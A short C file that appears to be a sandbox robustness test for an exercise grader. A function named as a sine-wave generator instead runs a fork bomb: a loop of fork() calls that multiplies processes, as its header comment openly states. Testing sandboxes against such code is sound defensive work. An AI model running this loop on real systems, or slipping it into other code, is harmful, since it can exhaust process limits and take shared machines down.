/* attack: a fork bomb: it must end within the test's limits and take
 *         nothing else down
 * as: sine_ex.c
 */
#include <unistd.h>

#include "exercise.h"

int gen_sine_ex(double amp, double freq, double phase, double fs, double *x, size_t n)
{
    (void)amp, (void)freq, (void)phase, (void)fs, (void)x, (void)n;
    for (int i = 0; i < 64; i++)
        if (fork() < 0)
            break;
    return DSP_ETODO;
}
